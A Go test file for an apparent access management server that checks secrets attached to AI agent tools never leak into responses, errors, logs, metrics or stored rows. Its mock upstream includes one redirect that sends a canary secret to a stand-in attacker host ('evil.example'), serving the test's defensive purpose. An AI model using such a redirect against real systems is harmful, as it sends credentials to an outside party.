package agents_test

import (
	"encoding/base64"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus/promhttp"

	"github.com/cardea-iam/cardea/api/v1alpha1"
	"github.com/cardea-iam/cardea/apiserver/frontend/frontendtest"
	"github.com/cardea-iam/cardea/apiserver/servertest"
	"github.com/cardea-iam/cardea/internal/document"
	"github.com/cardea-iam/cardea/internal/ids"
	"github.com/cardea-iam/cardea/internal/schemafield"
)

// metrics returns all metrics of the server as text.
func (w *world) metrics() string {
	w.T.Helper()
	recorder := httptest.NewRecorder()
	promhttp.HandlerFor(w.Registry, promhttp.HandlerOpts{}).ServeHTTP(recorder, httptest.NewRequest("GET", "/metrics", http.NoBody))
	return recorder.Body.String()
}

// stored returns the rows of calls and approvals, and all documents, as text.
func (w *world) stored() string {
	w.T.Helper()
	documents, _, err := w.Store.Load(w.T.Context())
	w.Must(err)
	var out strings.Builder
	for _, one := range documents {
		out.Write(one.Payload)
	}
	db := w.Open()
	defer func() { _ = db.Close() }()
	for _, query := range []string{"SELECT code, digest, COALESCE(arguments, ''), COALESCE(result, '') FROM tool_calls", "SELECT tool, agent, digest, COALESCE(arguments, '') FROM tool_approvals"} {
		rows, err := db.QueryContext(w.T.Context(), query)
		w.Must(err)
		for rows.Next() {
			var row [4]string
			w.Must(rows.Scan(&row[0], &row[1], &row[2], &row[3]))
			fmt.Fprintln(&out, row)
		}
		w.Must(rows.Err())
		w.Must(rows.Close())
	}
	return out.String()
}

// The values of a tool's Secrets reach the tool. They are in no list, definition, answer, error, record, number, log or
// row, also if the tool repeats them in every form.
func TestValuesOfSecretsAreInNoOtherPlace(t *testing.T) {
	servertest.OnEngines(t, func(t *testing.T, engine string) {
		w := newApprovalWorldIn(t, newWorldOver(t, engine), nil)
		signing := "whsec_" + base64.StdEncoding.EncodeToString([]byte("signing-canary-of-32-bytes-0123!"))
		w.declareSecretTools(signing)
		bearer := "Bearer " + canary
		var echoed atomic.Int64
		w.answering(func(rw http.ResponseWriter, r *http.Request) {
			if r.Header.Get("X-Api-Token") == bearer {
				echoed.Add(1)
			}
			echo := canary + " " + bearer + " " + url.QueryEscape(bearer)
			if r.URL.Path == "/sealed-print" {
				echo += " " + signing
			}
			switch kind := r.URL.Query().Get("q"); kind {
			case "401":
				rw.Header().Set("Www-Authenticate", "Bearer realm="+canary)
				rw.Header().Set("Content-Type", "application/json")
				rw.WriteHeader(401)
				_, _ = fmt.Fprintf(rw, `{"error":"wrong key","message":%q}`, echo)
			case "302":
				http.Redirect(rw, r, "https://evil.example/?key="+canary, http.StatusFound)
			case "abort":
				panic(http.ErrAbortHandler)
			default:
				rw.Header().Set("Content-Type", strings.Replace(kind, "secret", canary, 1))
				_, _ = fmt.Fprintf(rw, `{"state":"open","echo":%q,%q:1}`, echo, canary)
			}
		})
		texts := map[string]string{}
		for _, q := range []string{"application/json", "text/plain", "text/html", "image/png", "application/x-secret", "image/secret", "401", "302", "abort"} {
			w.Clock.Advance(time.Millisecond)
			texts["call "+q] = w.post("support", w.token, callBody("sealed", `{"q":"`+q+`"}`)).raw
			_, _, texts["call without MCP "+q] = w.direct(w.token, "support", "sealed", `{"arguments":{"q":"`+q+`"}}`)
		}
		for _, tool := range []string{"sealed-print", "sealed-pay"} {
			texts["call "+tool] = w.post("support", w.token, callBody(tool, `{"q":"text/plain"}`)).raw
		}
		texts["wrong arguments"] = w.post("support", w.token, callBody("sealed", `{"q":7,"more":1}`)).raw
		if n := echoed.Load(); n < 12 {
			t.Fatalf("the value reached the tool %d times: %v", n, texts)
		}
		w.Eventually("the calls are recorded", func() bool { return len(w.records(w.Store)) >= 18 })
		w.addServedTexts(texts)
		texts["metrics"], texts["logs"], texts["store"] = w.metrics(), w.Logs.String(), w.stored()
		for name, text := range texts {
			if text == "" || strings.Contains(text, "canary") || strings.Contains(text, strings.TrimPrefix(signing, "whsec_")) {
				t.Errorf("%s: %.2000s", name, text)
			}
		}
	})
}

// declareSecretTools declares an API tool, a function and a tool whose calls need an approval, all with Secrets.
func (w *approvalWorld) declareSecretTools(signing string) {
	w.T.Helper()
	header := func(tool string) []document.ToolHeader {
		id := ids.Format(ids.Derive(v1alpha1.KindAITool, "acme", tool))
		return []document.ToolHeader{{Name: "X-Api-Token", Secret: true, Sealed: w.Keyring.Seal(document.SealedToolHeader, document.ToolHeaderID(id, "X-Api-Token"), []byte("Bearer "+canary))}}
	}
	tool := func(name string) document.AITool {
		return document.AITool{
			Name: name, Method: "GET", Endpoint: w.up.URL + "/" + name, Headers: header(name), Record: document.RecordAll, URLParamsSchema: []schemafield.Field{{Name: "q", FieldType: "STRING"}},
		}
	}
	w.declareTool("sealed", tool("sealed"))
	signed := tool("sealed-print")
	id := ids.Format(ids.Derive(v1alpha1.KindAITool, "acme", "sealed-print"))
	signed.Type, signed.Endpoint, signed.SigningSecret = "function", signed.Endpoint+"?q={q}", true
	signed.SealedSigningSecret = w.Keyring.Seal(document.SealedToolHeader, document.ToolHeaderID(id, document.ToolSigningSecret), []byte(signing))
	w.declareTool("sealed-print", signed)
	approved := tool("sealed-pay")
	approved.RequiresUserApproval = true
	w.declareTool("sealed-pay", approved)
	tools := []string{"sealed", "sealed-print", "sealed-pay"}
	w.Put(v1alpha1.KindAIAgent, "support", frontendtest.Deployment, "", document.AIAgent{Name: "Support", Active: true, URL: agentURL, OAuthApp: "portal", Tools: tools})
	w.Eventually("the tools are listed", func() bool { return len(names(w.post("support", w.token, listing))) == len(tools) })
}

// addServedTexts adds what the server serves about an agent, its tools and its calls.
func (w *approvalWorld) addServedTexts(texts map[string]string) {
	w.T.Helper()
	reader := w.declareKey("reader-of-all", frontendtest.Deployment, "*")
	agent, tool := ids.Format(ids.Derive(v1alpha1.KindAIAgent, "acme", "support")), ids.Format(ids.Derive(v1alpha1.KindAITool, "acme", "sealed"))
	texts["tools/list"] = w.post("support", w.token, listing).raw
	paths := []string{
		"/ai/tools", "/ai/tools/" + tool, "/ai/agents", "/ai/agents/" + agent + "/tools", "/ai/agents/" + agent + "/mcp", "/ai/mcp-servers", "/ai/tool-calls?limit=100", "/ai/tool-approvals",
		"/ai/agents/" + agent + "/analytics?from=2020-01-01T00:00:00Z&to=2021-01-01T00:00:00Z",
	}
	for _, format := range []string{"mcp", "openai", "openai-chat", "anthropic"} {
		paths = append(paths, "/ai/agents/"+agent+"/tool-definitions?format="+format)
	}
	for _, one := range w.records(w.Store) {
		paths = append(paths, "/ai/tool-calls/"+ids.Format(one.ID))
	}
	for _, path := range paths {
		a := w.backendAnswer("GET", path, reader, "")
		if a.Code != http.StatusOK {
			w.T.Errorf("%s: %d %s", path, a.Code, a.Body)
		}
		texts[path] = a.Body.String()
	}
}
